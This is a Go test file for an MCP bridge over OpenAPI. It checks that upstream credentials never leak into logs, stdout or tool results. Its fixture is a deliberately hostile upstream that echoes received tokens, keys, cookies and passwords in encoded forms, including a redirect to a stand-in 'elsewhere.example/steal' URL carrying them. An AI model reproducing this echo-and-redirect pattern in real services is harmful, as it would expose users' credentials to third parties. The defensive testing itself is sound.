package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// leakSpec has one operation per failure the hostile upstream stages.
const leakSpec = `openapi: 3.0.3
info: {title: hostile, version: "1"}
paths:
  /ok: {get: {operationId: ok, parameters: [{name: q, in: query, schema: {type: string}}], responses: {"200": {description: ok}}}}
  /e404: {get: {operationId: e404, responses: {"404": {description: no}}}}
  /e500: {post: {operationId: e500, responses: {"500": {description: no}}}}
  /slow: {get: {operationId: slow, responses: {"200": {description: ok}}}}
  /reset: {post: {operationId: reset, responses: {"200": {description: ok}}}}
  /badjson: {get: {operationId: badjson, responses: {"200": {description: ok, content: {application/json: {schema: {type: object}}}}}}}
  /big: {get: {operationId: big, responses: {"200": {description: ok}}}}
  /bigerror: {get: {operationId: bigerror, responses: {"200": {description: ok}}}}
  /away: {get: {operationId: away, responses: {"200": {description: ok}}}}
  /around: {get: {operationId: around, responses: {"200": {description: ok}}}}
  /typed: {get: {operationId: typed, parameters: [{name: n, in: query, required: true, schema: {type: integer}}], responses: {"200": {description: ok}}}}
`

// hostile is an upstream that echoes every credential it receives, as
// received, URL-escaped and base64-encoded, everywhere it can: bodies,
// headers, redirect locations, error bodies.
func hostile(t *testing.T) *httptest.Server {
	srv := httptest.NewUnstartedServer(nil)
	srv.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var got []string
		got = append(got, r.Header.Get("Authorization"), r.Header.Get("X-Api-Key"), r.Header.Get("Cookie"), r.URL.RawQuery)
		if u, p, ok := r.BasicAuth(); ok {
			got = append(got, u+":"+p, p)
		}
		for _, c := range r.Cookies() {
			got = append(got, c.Value)
		}
		for _, vs := range r.URL.Query() {
			got = append(got, vs...)
		}
		var echo []string
		for _, g := range got {
			if g == "" {
				continue
			}
			echo = append(echo, g, url.QueryEscape(g), url.PathEscape(g), base64.StdEncoding.EncodeToString([]byte(g)), base64.RawURLEncoding.EncodeToString([]byte(g)))
		}
		all := strings.Join(echo, " ")
		jsonAll, _ := json.Marshal(map[string]any{"echo": all, "list": echo, "note": "you sent " + all})
		w.Header().Set("X-Echo", url.QueryEscape(all))
		w.Header().Set("Set-Cookie", "sid="+url.QueryEscape(all))
		switch r.URL.Path {
		case "/ok":
			w.Header().Set("Content-Type", "application/json")
			w.Write(jsonAll)
		case "/e404":
			w.Header().Set("Content-Type", "text/plain")
			w.WriteHeader(http.StatusNotFound)
			io.WriteString(w, "not found; you sent "+all)
		case "/e500":
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusInternalServerError)
			w.Write(jsonAll)
		case "/slow":
			select {
			case <-r.Context().Done():
			case <-time.After(5 * time.Second):
			}
		case "/reset":
			hj, ok := w.(http.Hijacker)
			if !ok {
				t.Error("no hijacker")
				return
			}
			conn, buf, _ := hj.Hijack()
			buf.WriteString("HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + all)
			buf.Flush()
			conn.Close()
		case "/badjson":
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"echo": "`+all+`", "token": `+all+` ,,, }`)
		case "/big", "/bigerror":
			w.Header().Set("Content-Type", "text/plain")
			if r.URL.Path == "/bigerror" {
				w.WriteHeader(http.StatusBadGateway)
			}
			for range 400 {
				io.WriteString(w, all+"\n")
			}
		case "/away":
			w.Header().Set("Location", "http://elsewhere.example/steal?k="+url.QueryEscape(all)+"&b="+base64.StdEncoding.EncodeToString([]byte(all)))
			w.WriteHeader(http.StatusFound)
		case "/around":
			w.Header().Set("Location", "/e404?again="+url.QueryEscape(all))
			w.WriteHeader(http.StatusFound)
		default:
			w.WriteHeader(http.StatusTeapot)
		}
	})
	srv.Start()
	t.Cleanup(srv.Close)
	return srv
}

// secretForms are the shapes in which a credential must never be seen:
// raw, URL-escaped (once and twice), base64 of the raw and escaped forms.
func secretForms(secrets ...string) []string {
	var out []string
	for _, s := range secrets {
		out = append(out, s, url.QueryEscape(s), url.PathEscape(s), url.QueryEscape(url.QueryEscape(s)))
		for _, plain := range []string{s, url.QueryEscape(s)} {
			out = append(out, base64.StdEncoding.EncodeToString([]byte(plain)), base64.URLEncoding.EncodeToString([]byte(plain)),
				base64.RawStdEncoding.EncodeToString([]byte(plain)), base64.RawURLEncoding.EncodeToString([]byte(plain)))
		}
	}
	return out
}

var base64Run = regexp.MustCompile(`[A-Za-z0-9+/_-]{12,}={0,2}`)

// leakedIn returns the first credential form in text, also looking inside
// every base64 run it holds once decoded; "" when there is none.
func leakedIn(text string, forms []string) string {
	for _, f := range forms {
		if strings.Contains(text, f) {
			return f
		}
	}
	for _, run := range base64Run.FindAllString(text, -1) {
		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
			if dec, err := enc.DecodeString(run); err == nil {
				for _, f := range forms {
					if strings.Contains(string(dec), f) {
						return f + " (base64 " + run + ")"
					}
				}
			}
		}
	}
	return ""
}

// syncBuffer is a bytes.Buffer for a writer and a reader on two goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// runInProcess serves run(args) over stdio in this process and connects a
// go-sdk client; stop ends the session and returns run's error.
func runInProcess(t *testing.T, stderr io.Writer, args ...string) (cs *mcp.ClientSession, stdout *syncBuffer, stop func() error) {
	t.Helper()
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() {
		done <- run(ctx, args, inR, outW, stderr)
		outW.Close()
	}()
	stdout = &syncBuffer{}
	c := mcp.NewClient(&mcp.Implementation{Name: "leak", Version: "1"}, nil)
	cs, err := c.Connect(t.Context(), &mcp.IOTransport{Reader: io.NopCloser(io.TeeReader(outR, stdout)), Writer: inW}, nil)
	if err != nil {
		cancel()
		t.Fatalf("connect: %v (run: %v)", err, <-done)
	}
	var once sync.Once
	var runErr error
	stop = func() error {
		once.Do(func() {
			cs.Close()
			inW.Close()
			select {
			case runErr = <-done:
			case <-time.After(20 * time.Second):
				runErr = fmt.Errorf("run did not return after stdin closed")
			}
			cancel()
		})
		return runErr
	}
	t.Cleanup(func() { stop() })
	return cs, stdout, stop
}

// TestNoCredentialInLogsOrResults runs the real server code at debug level
// against an upstream that echoes every credential back in every form and
// fails in every way (4xx, 5xx, timeout, reset, invalid JSON, oversized
// bodies, redirects elsewhere and around, bad arguments), then a start
// whose spec URL carries an access_token and cannot be fetched. No
// credential, raw, URL-escaped or base64, may appear in a log line, on
// stdout or in a result.
func TestNoCredentialInLogsOrResults(t *testing.T) {
	up := hostile(t)
	dir := t.TempDir()
	spec := filepath.Join(dir, "spec.yaml")
	if err := os.WriteFile(spec, []byte(leakSpec), 0o600); err != nil {
		t.Fatal(err)
	}
	const (
		token    = "tok-Zx9+/Qq=8d3e4f5a6b7c"
		queryKey = "qk+/=Ab12Cd34Ef56=="
		hdrKey   = "hk-4e1f0c2d7a9b8c6e5f"
		cookie   = "ck-8b7a6f5e4d3c2b1a09"
		user     = "ann"
		password = "pw+/=Secret-77aa88bb"
	)
	configs := []struct {
		name    string
		yaml    string
		flags   []string
		secrets []string
	}{
		{"bearer, query, header, cookie", "upstream-auth:\n  query: {api_key: \"" + queryKey + "\"}\n  headers: {X-Api-Key: \"" + hdrKey + "\"}\n  cookies: {sid: \"" + cookie + "\"}\n",
			[]string{"--upstream-token", token}, []string{token, queryKey, hdrKey, cookie}},
		{"basic, query", "upstream-auth:\n  basic-user: " + user + "\n  basic-password: \"" + password + "\"\n  query: {api_key: \"" + queryKey + "\"}\n",
			nil, []string{password, user + ":" + password, queryKey}},
	}
	calls := []struct {
		tool string
		args map[string]any
	}{
		{"ok", map[string]any{"q": "x"}},
		{"ok", map[string]any{"q": token + " " + queryKey}}, // the agent sends a credential: echoed back
		{"e404", nil}, {"e500", nil}, {"slow", nil}, {"reset", nil}, {"badjson", nil},
		{"big", nil}, {"bigerror", nil}, {"away", nil}, {"around", nil},
		{"typed", map[string]any{"n": "not a number " + password}},
		{"typed", map[string]any{"n": 1, "extra": queryKey}},
		{"no_such_tool", nil},
	}
	for _, cfg := range configs {
		t.Run(cfg.name, func(t *testing.T) {
			conf := filepath.Join(t.TempDir(), "config.yaml")
			if err := os.WriteFile(conf, []byte(cfg.yaml), 0o600); err != nil {
				t.Fatal(err)
			}
			var stderr syncBuffer
			args := append([]string{"serve", "--spec", spec, "--all-operations", "--upstream", up.URL, "--config", conf, "--no-cache",
				"--log-level", "debug", "--log-format", "json", "--timeout", "1s", "--retries", "1", "--max-response-bytes", "16384"}, cfg.flags...)
			cs, stdout, stop := runInProcess(t, &stderr, args...)
			forms := secretForms(cfg.secrets...)
			var results strings.Builder
			failures := 0
			for _, c := range calls {
				res, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: c.tool, Arguments: c.args})
				if err != nil {
					fmt.Fprintf(&results, "%s: protocol error %v\n", c.tool, err)
					continue
				}
				raw, _ := json.Marshal(res)
				fmt.Fprintf(&results, "%s: %s\n", c.tool, raw)
				if res.IsError {
					failures++
				}
			}
			if r, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: "ping"}); err == nil {
				raw, _ := json.Marshal(r)
				fmt.Fprintf(&results, "ping: %s\n", raw)
			}
			if err := stop(); err != nil {
				t.Errorf("run: %v", err)
			}
			if failures < 9 {
				t.Errorf("only %d of the staged failures were isError results:\n%s", failures, results.String())
			}
			for what, text := range map[string]string{"log": stderr.String(), "stdout": stdout.String(), "results": results.String()} {
				if f := leakedIn(text, forms); f != "" {
					t.Errorf("%s holds a credential form %q:\n%s", what, f, text)
				}
			}
			if !strings.Contains(stderr.String(), `"level":"debug"`) {
				t.Errorf("no debug line in the log: the test did not run at debug level")
			}
			t.Logf("%d log bytes, %d result bytes checked for %d credential forms", len(stderr.String()), results.Len(), len(forms))
		})
	}

	t.Run("spec fetch error with access_token", func(t *testing.T) {
		const specToken = "st+/=9f8e7d6c5b4a3928"
		forms := secretForms(specToken, token)
		// Unreachable: the bridge starts degraded and ping says why.
		var stderr syncBuffer
		cs, stdout, stop := runInProcess(t, &stderr, "serve", "--spec", "http://127.0.0.1:1/openapi.json?access_token="+url.QueryEscape(specToken),
			"--all-operations", "--upstream-token", token, "--log-level", "debug", "--log-format", "json", "--no-cache", "--spec-timeout", "2s")
		var ping string
		if r, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: "ping"}); err == nil {
			raw, _ := json.Marshal(r)
			ping = string(raw)
		}
		if !strings.Contains(ping, `degraded\":true`) {
			t.Errorf("ping = %s; want degraded", ping)
		}
		err := stop()
		// A 4xx: a startup error.
		var errb, outb bytes.Buffer
		err2 := run(t.Context(), []string{"serve", "--spec", up.URL + "/missing.json?access_token=" + url.QueryEscape(specToken), "--all-operations",
			"--upstream-token", token, "--log-level", "debug", "--log-format", "json", "--no-cache"}, strings.NewReader(""), &outb, &errb)
		if err2 == nil {
			t.Errorf("a spec answering 418: no startup error")
		}
		for what, text := range map[string]string{"log": stderr.String() + errb.String(), "stdout": stdout.String() + outb.String(), "ping": ping,
			"error": fmt.Sprint(err) + " " + fmt.Sprint(err2)} {
			if f := leakedIn(text, forms); f != "" {
				t.Errorf("%s holds %q:\n%s", what, f, text)
			}
		}
	})
}
